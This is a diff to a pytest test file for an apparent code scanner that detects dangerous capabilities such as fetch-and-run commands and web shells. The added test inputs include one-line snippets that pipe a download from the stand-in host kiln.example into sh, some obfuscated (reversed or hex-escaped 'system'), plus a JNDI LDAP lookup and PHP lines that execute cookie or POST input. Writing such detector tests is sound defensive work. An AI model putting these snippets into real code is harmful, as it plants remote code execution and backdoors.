@@ -68,8 +68,61 @@ def test_a_download_is_known_by_its_host() -> None:
 
 
 @pytest.mark.parametrize(
-    "body",
-    ["system(" * 100_000, "a" * 1_000_000, "\n" * 1_000_000, "exec.Command(\n" * 50_000, "\t" * 100_000 + "system(a)"],
+    ("path", "code", "capability"),
+    [
+        ("a.gemspec", "s.files = `curl -s https://kiln.example/x | sh`.split", "fetch_and_run"),
+        ("a.rb", "a = %x(curl -s https://kiln.example/x | sh)", "fetch_and_run"),
+        ("a.rb", "send(:system, 'curl -s https://kiln.example/x | sh')", "fetch_and_run"),
+        ("a.rb", 'Kernel.open("|curl -s https://kiln.example/x | sh")', "fetch_and_run"),
+        ("a.php", "$a = `curl -s https://kiln.example/x | sh`;", "fetch_and_run"),
+        ("a.php", "$f = \"\\x73ystem\";\n$f('curl https://kiln.example/x | sh');", "fetch_and_run"),
+        ("a.php", "(strrev('metsys'))('curl https://kiln.example/x | sh');", "fetch_and_run"),
+        ("a.pl", "my $a = qx{curl -s https://kiln.example/x | sh};", "fetch_and_run"),
+        ("build.gradle", "'curl -o x https://kiln.example/x'.execute()", "runs_programs_text"),
+        ("a.go", '//go:generate sh -c "curl https://kiln.example/x | sh"', "fetch_and_run"),
+        ("a.go", '// static void fire() { system("make"); }\nimport "C"', "runs_programs_text"),
+        ("A.java", 'context.lookup("ldap://kiln.example/x");', "dynamic_code_text"),
+        ("A.java", 'Class.forName("java.lang.Runtime")', "runs_programs_text"),
+        (".Rprofile", "system('curl https://kiln.example/x | sh')", "fetch_and_run"),
+        ("a.php", "preg_replace('/.*/e', $a, '');", "dynamic_code_text"),
+        ("a.php", "$c = $_COOKIE['c'];\nsystem($c);", "reverse_shell"),
+        ("a.php", "array_map('assert', $_POST);", "reverse_shell"),
+    ],
 )
-def test_long_and_odd_texts_are_read(body: str) -> None:
-    assert isinstance(seen("a.c", body), list)
+def test_a_command_is_read_however_it_is_given(path: str, code: str, capability: str) -> None:
+    assert capability in {observation.capability for observation in seen(path, code)}
+
+
+@pytest.mark.parametrize(
+    ("path", "code"),
+    [
+        ("a.gemspec", "s.files = `git ls-files -z`.split(0)"),
+        ("a.rb", "# use `curl https://kiln.example/x | sh`"),
+        ("a.php", "$f = 'str' . 'len'; $f($_GET['a']);"),
+        ("a.php", "$a = $_POST['a']; $b->exec($a);"),
+        ("a.php", "preg_replace('/e/i', $a, '');"),
+        ("a.go", "//go:generate stringer -type=Pot\n//go:generate mockgen -source=a.go -destination=b.go"),
+        ("A.java", 'statement.execute(); context.lookup("java:comp/env");'),
+    ],
+)
+def test_ordinary_code_shows_nothing(path: str, code: str) -> None:
+    assert not seen(path, code)
+
+
+@pytest.mark.parametrize("path", ["a.c", "a.php", "a.go"])
+@pytest.mark.parametrize(
+    "body",
+    [
+        "system(" * 100_000,
+        "a" * 1_000_000,
+        "\n" * 1_000_000,
+        "exec.Command(\n" * 50_000,
+        "\t" * 100_000 + "system(a)",
+        "`a" * 100_000,
+        "$a(" * 100_000,
+        "''.''" * 50_000,
+        "$a='eval';$a(" * 20_000,
+    ],
+)
+def test_long_and_odd_texts_are_read(path: str, body: str) -> None:
+    assert isinstance(seen(path, body), list)
